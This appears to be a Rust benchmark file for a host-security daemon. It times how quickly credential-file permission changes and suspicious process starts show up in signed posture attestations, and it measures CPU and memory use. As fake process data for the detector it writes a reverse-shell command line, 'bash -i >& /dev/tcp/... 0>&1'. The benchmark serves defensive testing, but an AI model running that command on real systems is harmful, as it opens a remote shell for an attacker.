@@ -1,0 +1,239 @@
+//! From a change on disk (or a process start) to a new signed attestation whose posture
+//! shows it, through `GetPosture`; idle CPU with all watchers; CPU and memory through a
+//! 50,000-file write storm in a watched tree.
+//! Run: `cargo bench -p clawsecd --bench events` (about four minutes).
+
+#![allow(clippy::unwrap_used)]
+
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::time::{Duration, Instant};
+
+use clawsec_proto::pb;
+use clawsec_proto::pb::claw_sec_client::ClawSecClient;
+use hyper_util::rt::TokioIo;
+use tokio::net::UnixStream;
+use tonic::transport::{Channel, Endpoint, Uri};
+
+async fn client(path: &Path) -> ClawSecClient<Channel> {
+    let path = path.to_path_buf();
+    let ch = Endpoint::try_from("http://localhost")
+        .unwrap()
+        .connect_with_connector(tower::service_fn(move |_: Uri| {
+            let p = path.clone();
+            async move { UnixStream::connect(p).await.map(TokioIo::new) }
+        }))
+        .await
+        .unwrap();
+    ClawSecClient::new(ch).max_decoding_message_size(16 << 20)
+}
+
+/// Waits until `id` has `status` in a posture signed after `after_seq`; returns when seen.
+async fn wait(
+    c: &mut ClawSecClient<Channel>,
+    id: &str,
+    status: pb::CheckStatus,
+    after_seq: u64,
+) -> u64 {
+    loop {
+        let p = c
+            .get_posture(pb::GetPostureRequest {})
+            .await
+            .unwrap()
+            .into_inner()
+            .posture
+            .unwrap();
+        if p.checks
+            .iter()
+            .any(|x| x.id == id && x.status == status as i32)
+        {
+            let a = c
+                .get_attestation(pb::GetAttestationRequest::default())
+                .await
+                .unwrap()
+                .into_inner();
+            let seq = serde_json::from_str::<serde_json::Value>(&a.document_json).unwrap()["seq"]
+                .as_u64()
+                .unwrap();
+            if seq > after_seq {
+                return seq;
+            }
+        }
+        tokio::time::sleep(Duration::from_millis(2)).await;
+    }
+}
+
+async fn current_seq(c: &mut ClawSecClient<Channel>) -> u64 {
+    let a = c
+        .get_attestation(pb::GetAttestationRequest::default())
+        .await
+        .unwrap()
+        .into_inner();
+    serde_json::from_str::<serde_json::Value>(&a.document_json).unwrap()["seq"]
+        .as_u64()
+        .unwrap()
+}
+
+fn cpu_ticks(pid: u32) -> u64 {
+    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
+    let after = &stat[stat.rfind(')').unwrap() + 2..];
+    let f: Vec<&str> = after.split(' ').collect();
+    f[11].parse::<u64>().unwrap() + f[12].parse::<u64>().unwrap()
+}
+
+fn status_kib(pid: u32, key: &str) -> u64 {
+    std::fs::read_to_string(format!("/proc/{pid}/status"))
+        .unwrap()
+        .lines()
+        .find_map(|l| {
+            l.strip_prefix(key)
+                .and_then(|v| v.split_whitespace().next()?.parse().ok())
+        })
+        .unwrap_or(0)
+}
+
+fn pct(v: &mut [Duration], q: f64) -> f64 {
+    v.sort();
+    v[((v.len() - 1) as f64 * q) as usize].as_secs_f64() * 1e3
+}
+
+fn write_proc(host: &Path, pid: u32, cmd: &[&str]) {
+    let d = host.join(format!("proc/{pid}"));
+    std::fs::create_dir_all(&d).unwrap();
+    std::fs::write(
+        d.join("status"),
+        format!(
+            "Name:\t{}\nPPid:\t1\nUid:\t1000\t1000\t1000\t1000\nNoNewPrivs:\t0\nSeccomp:\t0\n",
+            cmd[0]
+        ),
+    )
+    .unwrap();
+    let mut line = Vec::new();
+    for a in cmd {
+        line.extend_from_slice(a.as_bytes());
+        line.push(0);
+    }
+    std::fs::write(d.join("cmdline"), line).unwrap();
+}
+
+struct Kill(Child);
+impl Drop for Kill {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+fn main() {
+    let dir = tempfile::tempdir().unwrap();
+    let host: PathBuf = dir.path().join("host");
+    let home = host.join("home/alice");
+    for d in [".aws", ".openclaw/skills/notes", ".claude"] {
+        std::fs::create_dir_all(home.join(d)).unwrap();
+    }
+    std::fs::create_dir_all(host.join("etc")).unwrap();
+    std::fs::write(
+        host.join("etc/passwd"),
+        "root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n",
+    )
+    .unwrap();
+    let cred = home.join(".aws/credentials");
+    std::fs::write(&cred, "[default]\n").unwrap();
+    std::fs::set_permissions(&cred, std::fs::Permissions::from_mode(0o600)).unwrap();
+    std::fs::write(
+        home.join(".openclaw/skills/notes/SKILL.md"),
+        "---\nname: notes\ndescription: notes\n---\nTake notes.\n",
+    )
+    .unwrap();
+    write_proc(&host, 1, &["/sbin/init"]);
+    let sock = dir.path().join("s.sock");
+    std::fs::write(
+        dir.path().join("c.toml"),
+        format!(
+            "host_root = {:?}\nstate_dir = {:?}\nsocket = {:?}\n[server]\nassess_per_minute = 100000\nassess_burst = 100000\n",
+            host.display().to_string(),
+            dir.path().join("state").display().to_string(),
+            sock.display().to_string()
+        ),
+    )
+    .unwrap();
+    let daemon = Kill(
+        Command::new(env!("CARGO_BIN_EXE_clawsecd"))
+            .arg("--config")
+            .arg(dir.path().join("c.toml"))
+            .env("RUST_LOG", "warn")
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap(),
+    );
+    let pid = daemon.0.id();
+    let start = Instant::now();
+    while std::os::unix::net::UnixStream::connect(&sock).is_err() {
+        assert!(start.elapsed() < Duration::from_secs(60));
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    let rt = tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .unwrap();
+    rt.block_on(async {
+        let mut c = client(&sock).await;
+        // Let the start-up settle.
+        tokio::time::sleep(Duration::from_millis(500)).await;
+
+        let mut file = Vec::new();
+        for i in 0..100 {
+            let seq = current_seq(&mut c).await;
+            let (mode, want) = if i % 2 == 0 { (0o644, pb::CheckStatus::Fail) } else { (0o600, pb::CheckStatus::Pass) };
+            let t = Instant::now();
+            std::fs::set_permissions(&cred, std::fs::Permissions::from_mode(mode)).unwrap();
+            wait(&mut c, "SEC-002", want, seq).await;
+            file.push(t.elapsed());
+        }
+        println!("file event (chmod a credential file) -> signed posture: n=100 p50 {:.0} ms p99 {:.0} ms max {:.0} ms", pct(&mut file, 0.5), pct(&mut file, 0.99), pct(&mut file, 1.0));
+
+        let mut procs = Vec::new();
+        for i in 0..100u32 {
+            let seq = current_seq(&mut c).await;
+            let p = 50_000 + i;
+            let t = Instant::now();
+            write_proc(&host, p, &["bash", "-c", "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1"]);
+            let seq = wait(&mut c, "INC-001", pb::CheckStatus::Fail, seq).await;
+            procs.push(t.elapsed());
+            std::fs::remove_dir_all(host.join(format!("proc/{p}"))).unwrap();
+            c.assess(pb::AssessRequest { domains: vec!["incident".into()] }).await.ok();
+            wait(&mut c, "INC-001", pb::CheckStatus::Pass, seq).await;
+        }
+        println!("process event (reverse shell starts) -> signed posture: n=100 p50 {:.0} ms p99 {:.0} ms max {:.0} ms (poll interval 1000 ms)", pct(&mut procs, 0.5), pct(&mut procs, 0.99), pct(&mut procs, 1.0));
+    });
+
+    let t0 = cpu_ticks(pid);
+    std::thread::sleep(Duration::from_secs(60));
+    let ticks = cpu_ticks(pid) - t0;
+    let hz = 100.0;
+    println!(
+        "idle CPU over 60 s with all watchers (default schedule, proc poll 1 s): {:.2}% of one core; VmRSS {} KiB",
+        ticks as f64 / hz / 60.0 * 100.0,
+        status_kib(pid, "VmRSS:")
+    );
+
+    let storm = home.join(".openclaw/skills/storm");
+    std::fs::create_dir_all(&storm).unwrap();
+    let t0 = cpu_ticks(pid);
+    let started = Instant::now();
+    for i in 0..50_000 {
+        std::fs::write(storm.join(format!("f{i:05}.js")), "module.exports = 1;\n").unwrap();
+    }
+    let wrote = started.elapsed();
+    std::thread::sleep(Duration::from_secs(10));
+    let ticks = cpu_ticks(pid) - t0;
+    println!(
+        "write storm: 50,000 files in {:.1} s into a watched skill tree; daemon CPU {:.1} s over the storm and 10 s after; VmHWM {} KiB, VmRSS after {} KiB",
+        wrote.as_secs_f64(),
+        ticks as f64 / hz,
+        status_kib(pid, "VmHWM:"),
+        status_kib(pid, "VmRSS:")
+    );
+}
